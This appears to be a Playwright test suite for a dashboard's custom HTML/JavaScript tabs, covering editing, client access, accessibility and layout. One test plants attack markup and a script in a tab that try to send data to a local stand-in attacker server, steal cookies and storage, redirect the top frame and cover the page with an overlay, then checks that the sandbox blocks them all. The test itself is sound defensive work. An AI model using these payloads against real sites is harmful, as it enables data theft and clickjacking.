import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, chromium, expect, type Page } from '@playwright/test';
import { type AgencyWorld, makeAgencyWorld, signInClient } from '../world/agency-world.ts';
import { seriousFaults } from '../world/axe.ts';
import { test } from '../world/journey.ts';
import type { RunningServer } from '../world/server.ts';

// Pages of an agency's own: made on its screen, opened by its clients, and kept from everything that is not theirs.

let server: RunningServer;
let world: AgencyWorld;
const pictures = process.env.PICTURES_DIR;
const picture = async (page: Page, name: string) => {
  if (pictures) await page.screenshot({ path: `${pictures}/${name}.png`, fullPage: true });
};

test.beforeAll(async ({ browser, shared }) => {
  server = shared;
  world = await makeAgencyWorld(browser, server.origin, { sub: 'tabbed' });
});
test.afterAll(async () => {
  await world?.context.close();
});

test('an owner makes tabs, gives one to a client, who finds it among the pages; both see the page itself', async ({
  browser,
}) => {
  const page = await world.context.newPage();
  await page.goto(`${server.origin}/app/na/agency?activeTabIndex=4`);
  await expect(page.getByRole('tab', { name: 'Custom Tabs' })).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByText('No custom tabs yet')).toBeVisible();
  await expect(page.locator('iframe[title="Preview"]')).toHaveCount(0);
  await picture(page, 'tabs-empty');
  const add = page.getByRole('button', { name: 'Add tab' });
  const url = page.getByLabel('URL', { exact: true });
  const save = page.getByRole('button', { name: 'Save', exact: true });
  await add.press('Enter');
  await expect(page.getByLabel('Label', { exact: true })).toBeFocused();
  await page.getByLabel('Label', { exact: true }).fill('Offers');
  await url.fill('offers');
  await save.click();
  await expect(page.getByText('URL must include a leading slash (/)')).toBeVisible();
  await url.fill('/home');
  await save.click();
  await expect(page.getByText('This URL is reserved for a default tab')).toBeVisible();
  await url.fill('/offers');
  await page.getByRole('textbox', { name: 'HTML' }).fill('<h1 id="h">Summer</h1>');
  await page.getByRole('textbox', { name: 'JavaScript' }).fill('h.textContent += " offers"');
  await picture(page, 'tabs-editing');
  await page.getByRole('button', { name: 'Done' }).click();
  await add.click();
  await page.getByLabel('Label', { exact: true }).fill('Prices');
  await url.fill('/Offers');
  await save.click();
  await expect(page.getByText('This URL is already used by another tab')).toBeVisible();
  await url.fill('/prices');
  await page.getByRole('switch', { name: 'Always visible' }).check({ force: true });
  await save.click();
  await expect(page.getByText('All changes saved')).toBeVisible();
  await page.getByRole('button', { name: 'Move Prices up' }).press('Enter');
  await expect(page.getByRole('button', { name: 'Move Prices down' })).toBeFocused();
  await page.getByRole('button', { name: 'Delete Offers' }).click();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByRole('button', { name: 'Edit Offers' })).toBeVisible();
  expect(await seriousFaults(page)).toEqual([]);

  const opened = world.context.waitForEvent('page');
  await page.getByRole('button', { name: 'Edit Offers' }).click();
  const card = page.locator('li[data-tab]').filter({ has: page.getByRole('button', { name: 'Edit Offers' }) });
  await card.getByRole('button', { name: 'Save to preview' }).click();
  const preview = await opened;
  await preview.waitForURL(`${world.clientUrl}/app/na/c/offers`);
  await expect(preview.getByText('You are viewing as Nordlicht')).toBeVisible();
  await expect(preview.frameLocator('iframe[title="Offers"]').getByRole('heading')).toHaveText('Summer offers');
  expect(preview.url()).not.toContain('vo_');
  await preview.close();

  await world.addClient({ email: 'tabbed@example.com', name: 'Cleo', canAccess: ['/home'] });
  await page.goto(`${server.origin}/app/na/clients`);
  await page.getByRole('button', { name: 'Actions for Cleo' }).click();
  await page.getByRole('menuitem', { name: 'Edit' }).click();
  const drawer = page.getByRole('dialog');
  await drawer.getByRole('button', { name: /^Access/ }).click();
  await expect(drawer.getByRole('switch', { name: 'Prices' })).toBeChecked();
  await expect(drawer.getByRole('switch', { name: 'Prices' })).toBeDisabled();
  await drawer.getByRole('switch', { name: 'Offers' }).check({ force: true });
  await drawer.getByRole('button', { name: 'Save' }).click();
  await expect(drawer).toHaveCount(0);

  const context = await browser.newContext();
  const client = await context.newPage();
  await signInClient(client, world.clientUrl, 'tabbed@example.com');
  const places = client.getByRole('navigation', { name: 'Pages' }).getByRole('link');
  await expect(places).toHaveText(['Home', 'Prices', 'Offers']);
  await places.filter({ hasText: 'Offers' }).click();
  await expect(client).toHaveURL(/\/app\/na\/c\/offers$/);
  await expect(client.frameLocator('iframe[title="Offers"]').getByRole('heading')).toHaveText('Summer offers');
  await picture(client, 'tabs-client');
  await client.setViewportSize({ width: 360, height: 800 });
  expect(await client.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  await picture(client, 'tabs-client-360');
  await client.evaluate(() => localStorage.setItem('language', 'ar'));
  await client.reload();
  await expect(client.frameLocator('iframe[title="Offers"]').getByRole('heading')).toHaveText('Summer offers');
  await expect(client.locator('html')).toHaveAttribute('dir', 'rtl');
  expect(await client.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  expect(await seriousFaults(client)).toEqual([]);
  await picture(client, 'tabs-client-360-ar');
  await context.close();
  await page.close();
});

/** Counts whoever comes; nobody should. */
async function startAttacker() {
  const hits: string[] = [];
  const site = createServer((request, answer) => {
    hits.push(request.url ?? '');
    answer.end('<p>Caught');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => site.once('listening', resolve));
  const { port } = site.address() as AddressInfo;
  return { hits, origin: `http://127.0.0.1:${port}`, close: () => site.close() };
}

const attackHtml = (at: string) => `<p id="alive">Alive</p>
<img src="${at}/img"><link rel="stylesheet" href="${at}/css"><script src="${at}/js"></script><iframe src="${at}/frame"></iframe>
<style>@import url(${at}/import); body { background: url(${at}/background) } html { position: fixed; inset: -200px; z-index: 2147483647 }</style>
<object data="${at}/object"></object><video src="${at}/video"></video><base href="${at}/">
<form id="form" action="${at}/form" method="post" target="_top"><input name="x" value="y"></form>`;

/** Everything at once; what leaves the page comes last. */
const attackScript = (at: string) => `
const seen = [];
const attempts = [
  () => fetch('${at}/fetch', { mode: 'no-cors', method: 'POST', body: 'x' }),
  () => navigator.sendBeacon('${at}/beacon', 'x'),
  () => new EventSource('${at}/stream'),
  () => new WebSocket('${at.replace('http', 'ws')}/socket'),
  () => (new Image().src = '${at}/image'),
  () => form.submit(),
  () => (top.location = '${at}/top'),
  () => parent.document.body.remove(),
  () => seen.push(document.cookie),
  () => seen.push(localStorage.length),
  () => open('${at}/popup'),
];
for (const attempt of attempts) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
document.title = String(seen.length);
setTimeout(() => { location = '${at}/location' }, 500);
setTimeout(() => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=${at}/refresh'; document.head.append(meta) }, 300);`;

// Planted: a dashboard that lets any host into a frame -> /refresh is asked for.
test('what a tab tries reaches nobody, sees nothing, and stays under the banner', async () => {
  const attacker = await startAttacker();
  const { uid, call } = world.owner;
  const attack = {
    ...{ ID: 'tab_attackattackatt', label: 'Attack', href: '/attack', alwaysVisible: true },
    ...{ htmlContent: attackHtml(attacker.origin), jsContent: attackScript(attacker.origin) },
  };
  await call('post', `/v2/workspaces/${uid}/agency`, { customTabs: [attack] });
  const { url } = await call('post', `/v2/workspaces/${uid}/agency/preview`, { href: '/attack' });
  // As people have it: what opens by itself is not opened.
  const browser: Browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH || '/usr/bin/chromium',
    ignoreDefaultArgs: ['--disable-popup-blocking'],
    args: ['--no-sandbox', '--disable-gpu'],
  });
  try {
    const page = await browser.newPage();
    const answered = page.waitForResponse((response) => response.url().includes('/tabs/na/'));
    await page.goto(url);
    const { cookie } = await (await answered).request().allHeaders();
    expect(cookie).toBeUndefined();
    const banner = page.getByRole('region', { name: /viewing/i });
    await expect(banner).toBeVisible();
    await expect(page.locator('iframe[title="Attack"]')).toBeVisible();
    await page.waitForTimeout(3_000);
    expect(attacker.hits).toEqual([]);
    expect(page.url()).toBe(`${world.clientUrl}/app/na/c/attack`);
    const isOnTop = await banner.getByRole('button').evaluate((button) => {
      const { left, top, width, height } = button.getBoundingClientRect();
      return button.contains(document.elementFromPoint(left + width / 2, top + height / 2));
    });
    expect(isOnTop).toBe(true);
    await banner.getByRole('button').click();
    await expect(page.getByRole('button', { name: 'Sign In', exact: true })).toBeVisible();
    expect(attacker.hits).toEqual([]);
  } finally {
    await browser.close();
    attacker.close();
  }
});

test('without a host of its own an agency previews its tabs on the platform’s, whoever may do everything', async ({
  browser,
}) => {
  const { uid, call } = world.owner;
  const tab = { ID: 'tab_previewpreview0', label: 'News', href: '/news', htmlContent: '<h1>News</h1>' };
  await call('post', `/v2/workspaces/${uid}/agency`, { customTabs: [tab] });
  const page = await world.context.newPage();
  await page.goto(`${server.origin}/app/na/c/news?uid=${uid}`);
  await expect(page).toHaveTitle('Nordlicht');
  await expect(page.frameLocator('iframe[title="News"]').getByRole('heading')).toHaveText('News');
  await page.getByRole('navigation', { name: 'Pages' }).getByRole('link', { name: 'Home' }).click();
  await expect(page.locator('iframe[title="News"]')).toHaveCount(0);
  await page.close();
  const nobody = await browser.newContext();
  const closed = await nobody.newPage();
  await closed.goto(`${server.origin}/app/na/c/news?uid=${uid}`);
  await expect(closed.getByText('This page could not be opened')).toBeVisible();
  await nobody.close();
});
